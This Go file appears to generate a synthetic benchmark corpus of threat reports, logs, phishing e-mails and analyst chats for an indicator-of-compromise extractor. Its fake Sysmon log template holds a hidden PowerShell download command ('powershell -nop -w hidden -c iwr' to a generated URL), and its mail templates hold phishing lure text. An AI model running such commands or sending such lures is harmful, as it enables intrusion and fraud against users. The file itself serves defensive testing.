package main

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/ttp0/drone/drone/ioc/ioctest"
)

// docSep separates the documents of a generated corpus file; both tools
// get one document per call, as drone hands them one message or report.
const docSep = "\x1e"

// gen writes documents like the ones drone reads: threat reports (prose
// with indicators here and there and a list at the end), log excerpts,
// e-mails with their headers, and chat threads. Values come from a seeded
// generator so that every run measures the same bytes, and one line in
// ten is a text of the labelled corpus.
type gen struct {
	r     *rand.Rand
	cases map[string][]string // labelled texts by family: report, log, mail, chat
}

func newGen(seed uint64, cases []ioctest.Case) *gen {
	g := &gen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), cases: map[string][]string{}}
	for _, c := range cases {
		fam := map[string]string{"report": "report", "trap": "report", "email": "mail", "slack": "chat", "discord": "chat"}[c.Kind]
		if fam == "" {
			fam = "log"
		}
		g.cases[fam] = append(g.cases[fam], c.Text)
	}
	return g
}

// corpus returns documents until their total size reaches size bytes.
func (g *gen) corpus(size int) []string {
	var docs []string
	for n := 0; n < size; {
		d := g.doc()
		docs = append(docs, d)
		n += len(d)
	}
	return docs
}

// dense returns documents of about 2 KB made only of labelled texts, the
// densest in indicators that drone is likely to meet.
func dense(cases []ioctest.Case, size int) []string {
	var docs []string
	var b strings.Builder
	for n, i := 0, 0; n < size; i++ {
		b.WriteString(cases[i%len(cases)].Text)
		b.WriteByte('\n')
		if b.Len() >= 2048 {
			docs = append(docs, b.String())
			n += b.Len()
			b.Reset()
		}
	}
	return docs
}

func (g *gen) doc() string {
	var b strings.Builder
	switch k := g.r.IntN(20); {
	case k < 6:
		g.report(&b)
	case k < 12:
		g.logs(&b)
	case k < 17:
		g.chat(&b)
	default:
		g.mail(&b)
	}
	return b.String()
}

// line writes a labelled text of the family one time in ten, else gen().
func (g *gen) line(b *strings.Builder, fam string, gen func() string) {
	if g.r.IntN(10) == 0 {
		b.WriteString(g.pick(g.cases[fam]))
	} else {
		b.WriteString(gen())
	}
	b.WriteByte('\n')
}

func (g *gen) report(b *strings.Builder) {
	fmt.Fprintf(b, "# %s %s campaign targets %s\n\n", g.pick(adjectives), g.pick(families), g.pick(sectors))
	for range 4 + g.r.IntN(8) {
		for range 3 + g.r.IntN(5) {
			g.line(b, "report", g.sentence)
		}
		b.WriteByte('\n')
	}
	if g.r.IntN(2) == 0 {
		b.WriteString("## Indicators of compromise\n")
		for range 5 + g.r.IntN(20) {
			b.WriteString(g.defang(g.anyIOC()))
			b.WriteByte('\n')
		}
	}
}

func (g *gen) logs(b *strings.Builder) {
	for range 10 + g.r.IntN(40) {
		g.line(b, "log", g.logLine)
	}
}

func (g *gen) chat(b *strings.Builder) {
	for range 8 + g.r.IntN(30) {
		fmt.Fprintf(b, "[%02d:%02d] %s: ", 8+g.r.IntN(10), g.r.IntN(60), g.pick(users))
		g.line(b, "chat", g.message)
	}
}

func (g *gen) mail(b *strings.Builder) {
	for range 6 + g.r.IntN(8) {
		g.line(b, "mail", g.mailHeader)
	}
	b.WriteByte('\n')
	for range 4 + g.r.IntN(8) {
		b.WriteString(g.pick(mailBody))
		if g.r.IntN(4) == 0 {
			fmt.Fprintf(b, " %s", g.url())
		}
		b.WriteByte('\n')
	}
}

func (g *gen) pick(s []string) string { return s[g.r.IntN(len(s))] }

var (
	words      = strings.Fields(`secure update login account verify cdn static mail portal cloud service api files share docs drive invoice billing pay support help desk office online web app data sync backup storage auth sso check status track parcel delivery bank wallet`)
	tlds       = strings.Fields(`com net org ru xyz top info biz shop app co io cc su click live link online site icu buzz cn pw me tv de uk in kr`)
	fileExts   = strings.Fields(`exe dll ps1 js vbs hta lnk iso msi bat scr zip rar docm xlsm jar`)
	users      = strings.Fields(`jdoe asmith bob alice admin svc_backup helpdesk cfo accounts noreply`)
	products   = strings.Fields(`Chrome/120.0.0.0 Firefox/123.0 Safari/537.36 Edg/121.0.0.0 curl/8.4.0 python-requests/2.31.0`)
	adjectives = strings.Fields(`Persistent Opportunistic Targeted Financially-motivated Espionage-driven Novel`)
	families   = strings.Fields(`QakBot IcedID Emotet LockBit BlackCat AsyncRAT RedLine DarkGate Pikabot SocGholish`)
	sectors    = strings.Fields(`healthcare finance manufacturing government education retail logistics energy`)
	subjects   = []string{"The actor", "The operators", "This intrusion set", "The loader", "Our telemetry", "The affiliate",
		"The second stage", "The phishing kit", "Incident responders", "The victim organisation", "The malware", "Analysts"}
	verbs = []string{"relied on", "was later seen using", "abused", "deployed", "quickly moved to", "continued to use",
		"shifted towards", "repeatedly attempted", "was configured for", "did not need"}
	objects = []string{"living-off-the-land binaries to blend in with administrator activity",
		"remote management tools that were already approved in the environment",
		"valid accounts obtained from an earlier infostealer infection",
		"scheduled tasks and registry run keys for persistence",
		"a custom packer that changes with every build",
		"stolen code-signing certificates to evade reputation checks",
		"encrypted channels over common ports to hide command and control",
		"the same hosting provider for most of its infrastructure"}
	closings = []string{"", " over several weeks", " before the ransomware was deployed", " across multiple victims",
		" according to our telemetry", " in at least two cases", " during business hours"}
	chatter = []string{"ok thanks, I'll take a look after the stand-up and update the ticket", "anyone on call tonight?",
		"+1, escalating to the IR lead", "can we get the pcap from the sensor?", "closing this one as a false positive",
		"EDR says the host is isolated", "I'll write the summary for the notification", "looks benign to me, but let's check the proxy logs",
		"who owns that server?", "lunch first, then the timeline", "the vendor ticket is still open", "good catch!"}
	mailBody = []string{"Dear customer,", "Your account has been temporarily suspended due to unusual activity.",
		"Please review the attached document and confirm your details within 24 hours.",
		"If you did not request this change, contact our support team immediately.",
		"Kind regards, The Billing Team", "This message was sent to you because you are a registered user.",
		"Unfortunately we were unable to deliver your parcel.", "Click below to schedule a new delivery."}
)

func (g *gen) sentence() string {
	s := g.pick(subjects) + " " + g.pick(verbs) + " " + g.pick(objects) + g.pick(closings) + "."
	switch g.r.IntN(8) {
	case 0:
		s += fmt.Sprintf(" The payload was retrieved from %s.", g.defang(g.url()))
	case 1:
		s += fmt.Sprintf(" Command and control traffic went to %s (%s).", g.defang(g.domain()), g.defang(g.ip()))
	case 2:
		s += fmt.Sprintf(" The sample (SHA-256 %s) was first seen in %s.", g.hex(64), g.pick(sectors))
	case 3:
		s += fmt.Sprintf(" It exploited CVE-%d-%d (T%d.%03d).", 2015+g.r.IntN(10), 1000+g.r.IntN(50000), 1001+g.r.IntN(600), 1+g.r.IntN(20))
	}
	return s
}

func (g *gen) message() string {
	d := g.domain()
	switch g.r.IntN(10) {
	case 0:
		return fmt.Sprintf("<@U0%s> can you block <http://%s|%s> and %s?", strings.ToUpper(g.hex(8)), d, d, g.defang(g.ip()))
	case 1:
		return fmt.Sprintf("hash is `%s` and the dropper `%s` came from <%s>", g.hex(64), g.file(), g.url())
	case 2:
		return fmt.Sprintf("[writeup](%s) - **C2:** `%s`", g.url(), g.defang(d))
	}
	return g.pick(chatter)
}

func (g *gen) ip() string {
	if g.r.IntN(4) == 0 {
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 1+g.r.IntN(223), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *gen) domain() string {
	d := g.pick(words) + "-" + g.pick(words) + "." + g.pick(tlds)
	if g.r.IntN(3) == 0 {
		d = g.pick(words) + "." + d
	}
	return d
}

func (g *gen) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

func (g *gen) url() string {
	return g.pick([]string{"http", "https", "https", "ftp"}) + "://" + g.domain() + "/" + g.pick(words) + "/" + g.pick(words) + "." +
		g.pick([]string{"php", "html", "exe", "js", "zip"}) + g.pick([]string{"", "?id=" + g.hex(6), "?u=" + g.pick(users)})
}

func (g *gen) file() string { return g.pick(words) + "_" + g.hex(4) + "." + g.pick(fileExts) }

func (g *gen) anyIOC() string {
	switch g.r.IntN(6) {
	case 0:
		return g.ip()
	case 1:
		return g.domain()
	case 2:
		return g.url()
	case 3:
		return g.hex(64)
	case 4:
		return g.hex(32)
	}
	return g.pick(users) + "@" + g.domain()
}

// defang writes a value the way reports do, half of the time.
func (g *gen) defang(v string) string {
	if g.r.IntN(2) == 0 {
		return v
	}
	v = strings.Replace(v, "http", "hxxp", 1)
	v = strings.Replace(v, "@", "[@]", 1)
	i := strings.LastIndexByte(v, '.')
	if i < 0 {
		return v
	}
	return v[:i] + g.pick([]string{"[.]", "(.)", "[dot]"}) + v[i+1:]
}

func (g *gen) logLine() string {
	switch g.r.IntN(6) {
	case 0:
		return fmt.Sprintf("Mar %2d %02d:%02d:%02d web%02d sshd[%d]: Failed password for invalid user %s from %s port %d ssh2",
			1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(20), 1000+g.r.IntN(60000), g.pick(users), g.ip(), 1024+g.r.IntN(60000))
	case 1:
		return fmt.Sprintf("date=2024-03-%02d time=%02d:%02d:%02d devname=\"FGT-HQ\" type=\"traffic\" srcip=%s srcport=%d dstip=%s dstport=443 action=\"deny\" hostname=\"%s\"",
			1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.ip(), 1024+g.r.IntN(60000), g.ip(), g.domain())
	case 2:
		return fmt.Sprintf("%d.%03d %6d %s TCP_MISS/200 %d GET %s - HIER_DIRECT/%s application/octet-stream",
			1710000000+g.r.IntN(1000000), g.r.IntN(1000), g.r.IntN(100000), g.ip(), g.r.IntN(1000000), g.url(), g.ip())
	case 3:
		return fmt.Sprintf("%s - - [12/Mar/2024:10:%02d:%02d +0000] \"GET /%s/%s HTTP/1.1\" 200 %d \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) %s\"",
			g.ip(), g.r.IntN(60), g.r.IntN(60), g.pick(words), g.pick(words), g.r.IntN(100000), g.pick(products))
	case 4:
		return fmt.Sprintf("Process Create: Image: C:\\Users\\%s\\AppData\\Local\\Temp\\%s CommandLine: powershell -nop -w hidden -c iwr %s ParentImage: C:\\Windows\\explorer.exe Hashes: MD5=%s,SHA256=%s",
			g.pick(users), g.file(), g.url(), strings.ToUpper(g.hex(32)), strings.ToUpper(g.hex(64)))
	}
	return fmt.Sprintf("Registry value set: TargetObject: HKU\\S-1-5-21-%d\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s Details: C:\\ProgramData\\%s",
		g.r.IntN(1<<30), g.pick(words), g.file())
}

func (g *gen) mailHeader() string {
	switch g.r.IntN(6) {
	case 0:
		return fmt.Sprintf("Received: from mail.%s (mail.%s [%s]) by mx1.example-corp.com with ESMTPS id %s for <%s@example-corp.com>",
			g.domain(), g.domain(), g.ip(), g.hex(10), g.pick(users))
	case 1:
		return fmt.Sprintf("From: \"%s\" <%s@%s>", g.pick(words), g.pick(users), g.domain())
	case 2:
		return fmt.Sprintf("Authentication-Results: mx1.example-corp.com; spf=fail (sender IP is %s) smtp.mailfrom=%s; dkim=none", g.ip(), g.domain())
	case 3:
		return fmt.Sprintf("Date: Tue, %d Mar 2024 %02d:%02d:%02d +0000", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60))
	case 4:
		return fmt.Sprintf("Subject: %s", g.pick(mailBody))
	}
	return fmt.Sprintf("Content-Type: application/zip; name=\"%s\"", g.file())
}
